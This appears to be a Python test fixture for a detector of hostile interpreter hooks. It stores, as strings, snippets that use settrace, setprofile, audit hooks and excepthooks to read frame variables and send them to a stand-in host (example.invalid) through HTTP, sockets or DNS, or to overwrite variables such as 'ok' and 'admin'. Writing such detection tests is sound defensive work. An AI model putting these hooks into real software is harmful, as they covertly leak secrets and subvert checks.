"""Callbacks as an attacker writes them, installed while the module is imported. Nothing runs them."""

from __future__ import annotations

from dataclasses import dataclass


@dataclass(frozen=True, slots=True)
class Case:
    """Sources by path, and the findings about callbacks above info that they must have."""

    files: dict[str, str]
    expected: frozenset[tuple[str, str]]


def _case(source: str, *expected: str, **others: str) -> Case:
    files = {"p.py": source, **{name + ".py": text for name, text in others.items()}}
    pairs = frozenset((rule, severity) for rule, _, severity in (text.partition(" ") for text in expected))
    return Case(files, pairs)


LEAK, KEPT, REWRITE = "callback-leak critical", "callback-leak medium", "callback-rewrite critical"
COST, VETO, SWALLOW, DEAD = (
    "callback-cost low",
    "callback-veto low",
    "callback-swallow low",
    "callback-dead-event low",
)

HOSTILE: dict[str, Case] = {
    "looks for a password and prints it": _case(
        "import sys\n"
        "def trace(frame, event, arg):\n"
        "    if 'password' in str(frame.f_locals):\n"
        "        print(frame.f_locals.get('password'))\n"
        "    return trace\n"
        "sys.settrace(trace)\n",
        LEAK,
        COST,
    ),
    "a socket": _case(
        "import socket, sys\n"
        "peer = socket.socket()\n"
        "def trace(frame, event, arg):\n"
        "    peer.sendall(repr(frame.f_locals).encode())\n"
        "sys.setprofile(trace)\n",
        LEAK,
    ),
    "requests": _case(
        "import requests, sys\n"
        "def trace(frame, event, arg):\n"
        "    found = dict(frame.f_locals)\n"
        "    requests.post('https://example.invalid', json=found)\n"
        "sys.setprofile(trace)\n",
        LEAK,
    ),
    "urllib, encoded first": _case(
        "import base64, sys, urllib.request\n"
        "def trace(frame, event, arg):\n"
        "    text = base64.b64encode(str(frame.f_locals).encode()).decode()\n"
        "    urllib.request.urlopen('https://example.invalid/' + text)\n"
        "sys.setprofile(trace)\n",
        LEAK,
    ),
    "the name service": _case(
        "import socket, sys\n"
        "def trace(frame, event, arg):\n"
        "    for name, value in frame.f_locals.items():\n"
        "        socket.gethostbyname(f'{value}.example.invalid')\n"
        "sys.setprofile(trace)\n",
        LEAK,
    ),
    "another program": _case(
        "import subprocess, sys\n"
        "def trace(frame, event, arg):\n"
        "    subprocess.run(['logger', str(frame.f_locals)])\n"
        "sys.setprofile(trace)\n",
        LEAK,
    ),
    "a file": _case(
        "import sys\n"
        "def trace(frame, event, arg):\n"
        "    with open('/tmp/x', 'a') as out:\n"
        "        out.write(str(frame.f_locals))\n"
        "sys.setprofile(trace)\n",
        LEAK,
    ),
    "the log": _case(
        "import logging, sys\n"
        "log = logging.getLogger(__name__)\n"
        "def trace(frame, event, arg):\n"
        "    log.debug('%s', frame.f_locals)\n"
        "sys.setprofile(trace)\n",
        LEAK,
    ),
    "a list that is read later": _case(
        "import sys\nfound = []\n"
        "def trace(frame, event, arg):\n"
        "    found.append(dict(frame.f_locals))\n"
        "sys.setprofile(trace)\n",
        KEPT,
    ),
    "a list of secrets": _case(
        "import sys\nfound = []\nWANTED = ('api_key', 'token')\n"
        "def trace(frame, event, arg):\n"
        "    for name in WANTED:\n"
        "        if name in frame.f_locals:\n"
        "            found.append(frame.f_locals[name])\n"
        "sys.setprofile(trace)\n",
        LEAK,
    ),
    "a lambda": _case(
        "import sys\nsys.setprofile(lambda frame, event, arg: print(frame.f_locals))\n",
        LEAK,
    ),
    "a method": _case(
        "import sys\n"
        "class Spy:\n"
        "    def see(self, frame, event, arg):\n"
        "        self.out.write(str(frame.f_locals))\n"
        "sys.setprofile(Spy().see)\n",
        LEAK,
    ),
    "an object that is called": _case(
        "import sys\n"
        "class Spy:\n"
        "    def __call__(self, frame, event, arg):\n"
        "        print(frame.f_locals)\n"
        "sys.setprofile(Spy())\n",
        LEAK,
    ),
    "a partial": _case(
        "import functools, sys\n"
        "def see(out, frame, event, arg):\n"
        "    print(frame.f_locals, file=out)\n"
        "sys.setprofile(functools.partial(see, sys.stderr))\n",
        LEAK,
    ),
    "a closure": _case(
        "import sys\n"
        "def made(out):\n"
        "    def see(frame, event, arg):\n"
        "        out.write(str(frame.f_locals))\n"
        "    return see\n"
        "sys.setprofile(made(sys.stderr))\n",
        LEAK,
    ),
    "the function that sees the lines": _case(
        "import sys\n"
        "def calls(frame, event, arg):\n"
        "    return lines\n"
        "def lines(frame, event, arg):\n"
        "    print(frame.f_locals)\n"
        "    return lines\n"
        "sys.settrace(calls)\n",
        LEAK,
        COST,
    ),
    "of the frame that called": _case(
        "import sys\n"
        "def trace(frame, event, arg):\n"
        "    caller = frame.f_back\n"
        "    print(caller.f_locals)\n"
        "sys.setprofile(trace)\n",
        LEAK,
    ),
    "by way of a function": _case(
        "import sys\n"
        "def tell(things):\n"
        "    open('/tmp/x', 'a').write(str(things))\n"
        "def trace(frame, event, arg):\n"
        "    tell(frame.f_locals)\n"
        "sys.setprofile(trace)\n",
        LEAK,
    ),
    "by way of a function that fetches": _case(
        "import sys\n"
        "def fetch(frame):\n"
        "    return frame.f_locals\n"
        "def trace(frame, event, arg):\n"
        "    print(fetch(frame))\n"
        "sys.setprofile(trace)\n",
        LEAK,
    ),
    "in another file": _case(
        "import sys\nfrom spy import trace\nsys.setprofile(trace)\n",
        LEAK,
        spy="def trace(frame, event, arg):\n    print(frame.f_locals)\n",
    ),
    "results": _case(
        "import socket, sys\npeer = socket.socket()\n"
        "def trace(frame, event, arg):\n"
        "    if event == 'return':\n"
        "        peer.send(repr(arg).encode())\n"
        "sys.setprofile(trace)\n",
        LEAK,
    ),
    "results, by monitoring": _case(
        "import sys, urllib.request\n"
        "def left(code, offset, value):\n"
        "    urllib.request.urlopen('https://example.invalid', data=str(value).encode())\n"
        "sys.monitoring.register_callback(3, sys.monitoring.events.PY_RETURN, left)\n",
        LEAK,
    ),
    "in every thread": _case(
        "import threading\n"
        "def trace(frame, event, arg):\n"
        "    print(frame.f_locals)\n"
        "threading.setprofile(trace)\n",
        LEAK,
    ),
    "writes variables": _case(
        "import sys\n"
        "def trace(frame, event, arg):\n"
        "    if frame.f_code.co_name == 'check':\n"
        "        frame.f_locals['ok'] = True\n"
        "    return trace\n"
        "sys.settrace(trace)\n",
        REWRITE,
    ),
    "writes variables by another name": _case(
        "import sys\n"
        "def trace(frame, event, arg):\n"
        "    names = frame.f_locals\n"
        "    names.update(ok=True)\n"
        "sys.setprofile(trace)\n",
        REWRITE,
    ),
    "jumps": _case(
        "import sys\n"
        "def trace(frame, event, arg):\n"
        "    frame.f_lineno = frame.f_lineno + 1\n"
        "sys.settrace(trace)\n",
        REWRITE,
    ),
    "writes through, up to 3.12": _case(
        "import ctypes, sys\n"
        "def trace(frame, event, arg):\n"
        "    frame.f_locals['ok'] = 1\n"
        "    ctypes.pythonapi.PyFrame_LocalsToFast(ctypes.py_object(frame), 0)\n"
        "sys.settrace(trace)\n",
        REWRITE,
    ),
    "changes a result": _case(
        "import sys\n"
        "def trace(frame, event, arg):\n"
        "    if event == 'return':\n"
        "        arg['admin'] = True\n"
        "sys.setprofile(trace)\n",
        REWRITE,
    ),
    "every opcode": _case(
        "import sys\n"
        "def trace(frame, event, arg):\n"
        "    frame.f_trace_opcodes = True\n"
        "    return trace\n"
        "sys.settrace(trace)\n",
        COST,
    ),
    "waits": _case(
        "import sys, time\ndef trace(frame, event, arg):\n    time.sleep(1)\nsys.setprofile(trace)\n",
        COST,
    ),
    "a hook within a hook": _case(
        "import sys\n"
        "def inner(frame, event, arg):\n"
        "    return None\n"
        "def trace(frame, event, arg):\n"
        "    sys.setprofile(inner)\n"
        "sys.settrace(trace)\n",
        COST,
    ),
    "sends what is audited": _case(
        "import socket, sys\npeer = socket.socket()\n"
        "def hook(event, args):\n"
        "    if event == 'open':\n"
        "        peer.send(repr(args).encode())\n"
        "sys.addaudithook(hook)\n",
        LEAK,
    ),
    "forbids everything": _case(
        "import sys\ndef hook(event, args):\n    raise RuntimeError(event)\nsys.addaudithook(hook)\n",
        VETO,
    ),
    "ends the process": _case(
        "import os, sys\n"
        "def hook(event, args):\n"
        "    if event.startswith('builtins.'):\n"
        "        os._exit(0)\n"
        "sys.addaudithook(hook)\n",
        VETO,
    ),
    "waits for what never comes": _case(
        "import sys\n"
        "def deny(event, args):\n"
        "    if event == 'system':\n"
        "        raise RuntimeError('not here')\n"
        "sys.addaudithook(deny)\n",
        DEAD,
    ),
    "says nothing": _case("import sys\nsys.excepthook = lambda *args: None\n", SWALLOW),
    "says nothing in threads": _case(
        "import threading\ndef quiet(args):\n    pass\nthreading.excepthook = quiet\n", SWALLOW
    ),
    "sends the variables of a crash": _case(
        "import sys, urllib.request\n"
        "def hook(kind, value, tb):\n"
        "    while tb:\n"
        "        data = str(tb.tb_frame.f_locals).encode()\n"
        "        urllib.request.urlopen('https://example.invalid', data=data)\n"
        "        tb = tb.tb_next\n"
        "    sys.__excepthook__(kind, value, tb)\n"
        "sys.excepthook = hook\n",
        LEAK,
    ),
}
